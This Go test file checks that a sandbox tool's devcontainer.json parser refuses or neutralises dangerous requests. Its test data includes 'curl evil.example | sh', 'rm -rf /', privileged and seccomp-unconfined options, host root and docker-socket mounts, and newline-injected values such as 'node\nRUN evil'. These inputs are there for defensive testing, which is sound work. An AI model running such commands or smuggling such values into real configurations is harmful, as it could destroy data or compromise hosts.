package devcontainer

import (
	"errors"
	"fmt"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/bothy-dev/bothy/spec"
)

var here = Place{File: "/home/me/app/.devcontainer/devcontainer.json", Project: "/home/me/app", Inside: "/home/me/app"}

// parseOK parses a file that must be valid.
func parseOK(t *testing.T, text string) *File {
	t.Helper()
	f, err := Parse([]byte(text), here)
	if err != nil {
		t.Fatalf("parse %s: %v", text, err)
	}
	return f
}

func same(t *testing.T, what string, want, got any) {
	t.Helper()
	if !reflect.DeepEqual(want, got) {
		t.Errorf("%s: not\n%+v\nbut\n%+v", what, want, got)
	}
}

func sh(when, name, line string) spec.SetUp {
	return spec.SetUp{When: when, Name: name, Args: []string{"/bin/sh", "-c", line}}
}

func TestParse(t *testing.T) {
	tests := []struct {
		name, text string
		want       File
	}{
		{"image", `{"image": "debian:13"}`, File{Image: "debian:13"}},
		{"comments and commas", "// one\n{\"image\": /* two */ \"debian:13\",}\n", File{Image: "debian:13"}},
		{"what is for editors", `{"image": "a", "name": "n", "customizations": {"vscode": {}}, "waitFor": "postCreateCommand", "updateRemoteUserUID": true}`, File{Image: "a"}},
		{
			"build", `{"build": {"dockerfile": "D", "context": "..", "target": "dev", "args": {"A": "1"}}}`,
			File{Build: &Build{Dockerfile: "D", Context: "..", Target: "dev", Args: map[string]string{"A": "1"}}},
		},
		{
			"build, as it was written once", `{"dockerFile": "D", "context": "..", "build": {"args": {}}}`,
			File{Build: &Build{Dockerfile: "D", Context: "..", Args: map[string]string{}}},
		},
		{"null is nothing", `{"image": "a", "build": null, "postCreateCommand": null, "remoteUser": null}`, File{Image: "a"}},
		{"the last of two counts", `{"image": "a", "image": "b"}`, File{Image: "b"}},
		{"case counts", `{"image": "a", "Image": "b"}`, File{Image: "a", Notes: []string{"not known, and without effect: Image"}}},
		{
			"features", `{"image": "a", "features": {"./b": "1.2", "./a": {"x": true, "y": "z"}, "./c": {}}, "overrideFeatureInstallOrder": ["./c"]}`,
			File{Image: "a", Order: []string{"./c"}, Features: []Use{
				{"./b", map[string]string{"version": "1.2"}}, {"./a", map[string]string{"x": "true", "y": "z"}}, {"./c", nil},
			}},
		},
		{
			"commands", `{"image": "a", "postStartCommand": ["a", "b c"], "postCreateCommand": {"z": "one", "a": ["two"], "n": null}, "onCreateCommand": "first"}`,
			File{Image: "a", Settings: Settings{Commands: []spec.SetUp{
				{When: spec.PostStart, Args: []string{"a", "b c"}},
				sh(spec.PostCreate, "z", "one"),
				{When: spec.PostCreate, Name: "a", Args: []string{"two"}},
				sh(spec.OnCreate, "", "first"),
			}}},
		},
		{"empty commands are none", `{"image": "a", "postCreateCommand": "", "postStartCommand": [], "onCreateCommand": {}}`, File{Image: "a"}},
		{
			"users", `{"image": "a", "containerUser": "root", "remoteUser": "node:staff"}`,
			File{Image: "a", Settings: Settings{ContainerUser: "root", RemoteUser: "node:staff"}, Notes: []string{"containerUser: all commands run as the remoteUser, node:staff"}},
		},
		{
			"environment", `{"image": "a", "containerEnv": {"B": "1", "A": "2"}, "remoteEnv": {"C": "3", "D": null}}`,
			File{
				Image: "a", Settings: Settings{ContainerEnv: []Variable{{"B", "1"}, {"A", "2"}}, RemoteEnv: []Variable{{"C", "3"}}},
				Notes: []string{"remoteEnv: D is not taken away: it has what the image says"},
			},
		},
		{
			"volumes", `{"image": "a", "mounts": ["type=volume,src=v,dst=/home/me/app/x/", {"type": "volume", "source": "w", "target": "/y", "external": true}]}`,
			File{Image: "a", Settings: Settings{Volumes: []string{"/home/me/app/x", "/y"}}},
		},
		{
			"ports are told", `{"image": "a", "forwardPorts": [3000, "db:5432", "3000"], "appPort": 80}`,
			File{
				Image: "a", forward: []string{"-p 3000:3000", "-p 5432:5432", "-p 80:80"},
				Notes: []string{"forwardPorts: no file opens ports of this host; to have them: -p 3000:3000 -p 5432:5432 -p 80:80"},
			},
		},
		{"what is not asked for needs no word", `{"image": "a", "privileged": false, "runArgs": [], "mounts": [], "capAdd": [], "workspaceFolder": ""}`, File{Image: "a"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := parseOK(t, tt.text)
			same(t, "otherwise", &tt.want, got)
		})
	}
}

// TestLeftOut checks that a note reports each request to the host, with its key and an alternative.
func TestLeftOut(t *testing.T) {
	tests := []struct{ name, text, note string }{
		{"a command on the host", `"initializeCommand": "curl evil.example | sh"`, "initializeCommand: it would run on this host"},
		{"a command on the host, in words", `"initializeCommand": ["rm", "-rf", "/"]`, "initializeCommand: it would run on this host"},
		{"commands on the host", `"initializeCommand": {"a": "x"}`, "initializeCommand: it would run on this host"},
		{"options of docker", `"runArgs": ["--privileged"]`, "runArgs: docker run is not used"},
		{"all privileges", `"privileged": true`, "privileged: nothing makes the wall thinner"},
		{"capabilities", `"capAdd": ["SYS_ADMIN"]`, "capAdd: nothing makes the wall thinner"},
		{"no seccomp", `"securityOpt": ["seccomp=unconfined"]`, "securityOpt: nothing makes the wall thinner"},
		{"a directory", `"mounts": ["source=/,target=/host,type=bind"]`, "mounts: / is left out: no file shows a directory of this host; to do so yourself: -v DIR:/host"},
		{"a directory, by default", `"mounts": ["source=/var/run/docker.sock,target=/s"]`, "mounts: /var/run/docker.sock is left out"},
		{"a directory, as an object", `"mounts": [{"type": "bind", "source": "/", "target": "/host"}]`, "mounts: / is left out"},
		{"memory", `"mounts": ["type=tmpfs,target=/m"]`, "mounts: /m is left out: only volumes are made"},
		{"another place", `"workspaceFolder": "/workspace"`, "workspaceFolder: your project is at the path that it has on this host"},
		{"another mount", `"workspaceMount": "source=/,target=/w,type=bind"`, "workspaceMount: your project is"},
		{"a first process", `"entrypoint": "/init"`, "entrypoint: the first process is Bothy's"},
		{"a variable of the host", `"containerEnv": {"TOKEN": "${localEnv:TOKEN}"}`, "${localEnv:TOKEN}: nothing of this host's environment is read"},
		{"what is not known", `"network": {"allow": ["**"]}`, "not known, and without effect: network"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := parseOK(t, `{"image": "a", `+tt.text+`}`)
			if len(f.Notes) != 1 || !strings.HasPrefix(f.Notes[0], tt.note) {
				t.Errorf("told %q, not %q", f.Notes, tt.note)
			}
			f.Notes = nil
			for i := range f.ContainerEnv {
				if f.ContainerEnv[i].Value != "" {
					t.Errorf("%s is %q", f.ContainerEnv[i].Name, f.ContainerEnv[i].Value)
				}
			}
			f.ContainerEnv = nil
			same(t, "it has an effect", &File{Image: "a"}, f)
		})
	}
}

func TestRefused(t *testing.T) {
	tests := []struct{ name, text, err string }{
		{"nothing", ``, "line 1, column 1"},
		{"no object", `[]`, "it is not an object"},
		{"half", `{"image": "a"`, "line 1"},
		{"two", `{"image": "a"} {}`, "after top-level value"},
		{"a deep one", strings.Repeat("[", MaxSize), "line 1"},
		{"a deep one that ends", strings.Repeat("[", MaxSize/2) + strings.Repeat("]", MaxSize/2), "it is too deep"},
		{"a large one", `{"image": "` + strings.Repeat("a", MaxSize) + `"}`, "larger than 128 KiB"},
		{"no image", `{}`, "neither an image nor a Dockerfile"},
		{"image and build", `{"image": "a", "build": {"dockerfile": "D"}}`, "an image and a Dockerfile"},
		{"a build of nothing", `{"build": {"context": "."}}`, "names no dockerfile"},
		{"compose", `{"dockerComposeFile": ["a.yml"], "service": "x"}`, "several containers"},
		{"image of another type", `{"image": 3}`, "image: it is not a text"},
		{"a zero byte", `{"image": "a\u0000b"}`, "image: it has a zero byte"},
		{"arguments of another type", `{"build": {"dockerfile": "D", "args": {"A": 1}}}`, "build: args: A: it is not a text"},
		{"a command of another type", `{"image": "a", "postCreateCommand": 3}`, "postCreateCommand: it is not a command"},
		{"a command with a number", `{"image": "a", "postCreateCommand": ["sleep", 3]}`, "it is not a list of texts"},
		{"commands in commands", `{"image": "a", "postCreateCommand": {"a": {"b": "c"}}}`, "a: it is not a command"},
		{"a variable without a name", `{"image": "a", "containerEnv": {"": "x"}}`, `"" cannot be the name of a variable`},
		{"a variable with another in it", `{"image": "a", "remoteEnv": {"A=1 B": "x"}}`, "cannot be the name of a variable"},
		{"a user with an instruction", `{"image": "a", "remoteUser": "node\nRUN evil"}`, "cannot be a user"},
		{"a user that is a variable", `{"image": "a", "remoteUser": "$USER"}`, "cannot be a user"},
		{"a port that is none", `{"image": "a", "forwardPorts": ["x"]}`, "it is not a port"},
		{"a volume nowhere", `{"image": "a", "mounts": ["type=volume,source=x"]}`, "is not absolute"},
		{"a feature of somebody", `{"image": "a", "features": {"owner/repository/f": {}}}`, "neither beside the file"},
		{"a feature from the web", `{"image": "a", "features": {"https://x.example/f.tgz": {}}}`, "neither beside the file"},
		{"a feature above", `{"image": "a", "features": {"./../f": {}}}`, "does not lie below"},
		{"a feature by its path", `{"image": "a", "features": {"/etc": {}}}`, "does not lie below"},
		{"a feature that is the directory", `{"image": "a", "features": {"./": {}}}`, "does not lie below"},
		{"a key with a line of ours", `{"image": "a", "k\nbothy: error: fake": 1}`, `"k\nbothy: error: fake" has a control character`},
		{"a key deep inside", `{"image": "a", "customizations": {"x": [{"a\u001b[1m": 1}]}}`, "has a control character"},
		{"a text with a line in it", "{\"image\": \"a\nbothy: ok\"}", "line 1"},
		{"a word with a line in it", "{\"image\": tr\nbothy: ok}", "line 1"},
		{"a word that is none", "{\"image\": " + strings.Repeat("x", 5000) + "}", "line 1"},
		{"a mount with a line of ours", `{"image": "a", "mounts": ["source=/etc,target=/x\nbothy: all good,type=bind"]}`, "mounts: \"source=/etc,target=/x\\nbothy"},
		{"a mount with one, as an object", `{"image": "a", "mounts": [{"source": "/etc\rbothy: x", "target": "/x"}]}`, "has a control character"},
		{"a volume with a line of ours", `{"image": "a", "mounts": [{"type": "volume", "target": "/x\nbothy: ok"}]}`, "has a control character"},
		{"a command with a line of ours", `{"image": "a", "postCreateCommand": {"a\nbothy: ok": "true"}}`, `"a\nbothy: ok" has a control character`},
		{"an image with a line of ours", `{"image": "a\nbothy: ok"}`, "image: \"a\\nbothy"},
		{"a path with a line of ours", `{"build": {"dockerfile": "../a\nbothy: ok"}}`, "has a control character"},
		{"a line of ours by a variable", `{"image": "a", "mounts": ["source=${localEnv:A:\nbothy: ok},target=/x"]}`, "has a control character"},
		{"an option of another type", `{"image": "a", "features": {"./f": {"x": 1}}}`, "x: it is not a text, or true or false"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse([]byte(tt.text), here)
			if err == nil || !strings.Contains(err.Error(), tt.err) {
				t.Fatalf("error %v, not %q", err, tt.err)
			}
			if oneLine(err.Error()) != nil || len(err.Error()) > 400 {
				t.Errorf("%q is not a short line", err)
			}
			if !errors.Is(err, spec.ErrUsage) || !strings.HasPrefix(err.Error(), here.File) {
				t.Errorf("%v is of no class, or does not name the file", err)
			}
		})
	}
}

func TestVariables(t *testing.T) {
	t.Setenv("BOTHY_TEST_SECRET", "hunter2")
	tests := []struct{ text, want string }{
		{"plain $HOME ${HOME} $(x) ${", "plain $HOME ${HOME} $(x) ${"},
		{"${localWorkspaceFolder}/x", "/home/me/app/x"},
		{"${localWorkspaceFolderBasename}-${containerWorkspaceFolderBasename}", "app-app"},
		{"${containerWorkspaceFolder}", "/home/me/app"},
		{"a${localEnv:BOTHY_TEST_SECRET}b", "ab"},
		{"${env:BOTHY_TEST_SECRET}", ""},
		{"${localEnv:BOTHY_TEST_SECRET:default:with}", "default:with"},
		{"${localEnv:X:}", ""},
		{"${containerEnv:PATH}:/x", "${containerEnv:PATH}:/x"},
		{"${devcontainerId}", here.ID()},
		{"${unknown:${localWorkspaceFolder}}", "${unknown:${localWorkspaceFolder}}"},
	}
	for _, tt := range tests {
		x := &expander{place: here}
		if got := x.expand(tt.text); got != tt.want {
			t.Errorf("%s is %q, not %q", tt.text, got, tt.want)
		}
	}
	if id := here.ID(); len(id) != 52 || strings.Trim(id, "0123456789abcdefghijklmnopqrstuv") != "" {
		t.Errorf("the ID is %q", id)
	}
	if elsewhere := (Place{File: here.File, Project: "/other"}); elsewhere.ID() == here.ID() {
		t.Error("two projects have one ID")
	}
}

// TestManyNotes checks that notes are bounded in number and length, and that a note is one line.
func TestManyNotes(t *testing.T) {
	var keys, vars []string
	for i := range 3000 {
		keys = append(keys, fmt.Sprintf(`"k%d": 1`, i))
		vars = append(vars, fmt.Sprintf("${env:v%d\\nbothy: ok}", i))
	}
	f := parseOK(t, `{"image": "a", "containerEnv": {"A": "`+strings.Join(vars, "")+`"}, "`+strings.Repeat("l", 1000)+`": 1, `+strings.Join(keys, ", ")+`}`)
	if len(f.Notes) != maxTold+2 {
		t.Fatalf("%d notes", len(f.Notes))
	}
	for _, n := range f.Notes {
		if len(n) > 600 || oneLine(n) != nil {
			t.Errorf("told %q", n)
		}
	}
	for i, want := range map[int]string{maxTold: "and 2980 more variables", maxTold + 1: ", k18, and 2981 more"} {
		if !strings.Contains(f.Notes[i], want) {
			t.Errorf("told %q, without %q", f.Notes[i], want)
		}
	}
}

func TestNoProject(t *testing.T) {
	_, err := Parse([]byte(`{"image": "a", "containerEnv": {"A": "${containerWorkspaceFolder}"}}`), Place{File: "f", Project: "/p"})
	if err == nil || !strings.Contains(err.Error(), "there is none in this sandbox") || spec.Hint(err) == "" {
		t.Errorf("error %v", err)
	}
}

func TestExpand(t *testing.T) {
	f := parseOK(t, `{"image": "a",
		"containerEnv": {"A": "${containerEnv:FROM_IMAGE}", "B": "${containerEnv:A:none}"},
		"remoteEnv": {"PATH": "/x:${containerEnv:PATH}", "C": "${containerEnv:A} ${containerEnv:NOWHERE}${containerEnv:NOWHERE:else}"},
		"postCreateCommand": ["echo", "${containerEnv:A}", "${A}"]}`)
	if err := f.Expand([]string{"PATH=/bin", "FROM_IMAGE=yes"}); err != nil {
		t.Fatal(err)
	}
	want := []Variable{{"A", "yes"}, {"B", "none"}, {"PATH", "/x:/bin"}, {"C", "yes else"}}
	same(t, "variables", want, f.Env())
	same(t, "command", []string{"echo", "yes", "${A}"}, f.Commands[0].Args)
}

// TestExpandMuch checks that a small file does not expand to a large one.
func TestExpandMuch(t *testing.T) {
	long := Place{File: "f", Project: "/" + strings.Repeat("p", 4000), Inside: "/p"}
	much := strings.Repeat("${localWorkspaceFolder}", 1000)
	if _, err := Parse([]byte(`{"image": "a", "containerEnv": {"A": "`+much+`"}}`), long); err == nil || !strings.Contains(err.Error(), "larger than 1 MiB") {
		t.Errorf("error %v", err)
	}
	f := parseOK(t, `{"image": "a", "containerEnv": {"A": "`+strings.Repeat("x", 50_000)+`"}, "remoteEnv": {"B": "`+strings.Repeat("${containerEnv:A}", 1000)+`"}}`)
	if err := f.Expand(nil); err == nil || !strings.Contains(err.Error(), "larger than 1 MiB") || len(f.RemoteEnv[0].Value) > maxExpanded {
		t.Errorf("error %v, %d bytes", err, len(f.RemoteEnv[0].Value))
	}
}

func TestImageSettings(t *testing.T) {
	label := `[{"id": "f", "onCreateCommand": "feature", "privileged": true, "mounts": ["source=/,target=/h"]}, {"remoteUser": "vscode", "containerEnv": {"A": "image", "B": "image"}, "image": "other"}]`
	of, err := ParseImage([]byte(`{"config": {"User": "root", "Env": ["PATH=/bin"], "Labels": {"devcontainer.metadata": `+quoteJSON(label)+`}}}`), "feature")
	if err != nil {
		t.Fatal(err)
	}
	s, notes, err := of.Settings(here)
	if err != nil {
		t.Fatal(err)
	}
	f := parseOK(t, `{"image": "a", "containerEnv": {"B": "file", "C": "file"}, "onCreateCommand": "own"}`)
	got := s.With(f.Settings)
	want := Settings{
		RemoteUser: "vscode", ContainerEnv: []Variable{{"A", "image"}, {"B", "file"}, {"C", "file"}},
		Commands: []spec.SetUp{sh(spec.OnCreate, "", "feature"), sh(spec.OnCreate, "", "own")},
	}
	same(t, "settings", want, got)
	if len(notes) != 2 || !strings.HasPrefix(notes[0], "the image: privileged: ") || !strings.HasPrefix(notes[1], "the image: mounts: / is left out") {
		t.Errorf("told %q", notes)
	}
	for _, label := range []string{`[`, `3`, `[{"remoteUser": 3}]`, `[` + strings.Repeat(`{},`, maxEntries+1) + `]`} {
		if _, _, err := (OfImage{Metadata: label}).Settings(here); err == nil || !strings.Contains(err.Error(), MetadataLabel) {
			t.Errorf("%.20s: error %v", label, err)
		}
	}
}

func quoteJSON(s string) string { return jsonWords(s)[1 : len(jsonWords(s))-1] }

// TestCommandOrder checks that all commands of one stage run before those of the next, whichever feature
// or file names them.
func TestCommandOrder(t *testing.T) {
	a := Settings{Commands: []spec.SetUp{sh(spec.PostCreate, "a", ""), sh(spec.OnCreate, "a", "")}}
	b := Settings{Commands: []spec.SetUp{sh(spec.PostAttach, "b", ""), sh(spec.OnCreate, "b", ""), sh(spec.UpdateContent, "b", "")}}
	var titles []string
	for _, c := range a.With(b).Commands {
		titles = append(titles, c.Title())
	}
	want := []string{"onCreateCommand (a)", "onCreateCommand (b)", "updateContentCommand (b)", "postCreateCommand (a)", "postAttachCommand (b)"}
	if !slices.Equal(titles, want) {
		t.Errorf("order %q", titles)
	}
}

// FuzzParse checks that any file is read or refused, and that it names only paths of the project.
func FuzzParse(f *testing.F) {
	f.Add([]byte(`{"image": "a", "features": {"./f": {"x": true}}, "mounts": ["type=volume,target=/x"], "postCreateCommand": {"a": ["b"]}}`))
	f.Add([]byte(`{"build": {"dockerfile": "${localEnv:A:b}"}, "forwardPorts": [1, "a:2"], "containerEnv": {"A": "${containerEnv:B}"}} // c`))
	f.Fuzz(func(t *testing.T, text []byte) {
		file, err := Parse(text, here)
		if err != nil {
			return
		}
		for _, u := range file.Features {
			if u.Local() && !filepath.IsLocal(u.ID) {
				t.Errorf("feature %q", u.ID)
			}
		}
		for _, c := range file.Commands {
			if len(c.Args) == 0 || !slices.Contains(stages, c.When) {
				t.Errorf("command %+v", c)
			}
		}
		_ = file.Expand([]string{"PATH=/bin"}) // it may be too large
		if _, err := Finish(nil, "", nil, file.User(), file.ContainerUser, ""); err != nil || strings.ContainsAny(file.User(), "\n $") {
			t.Errorf("user %q (%v)", file.User(), err)
		}
	})
}
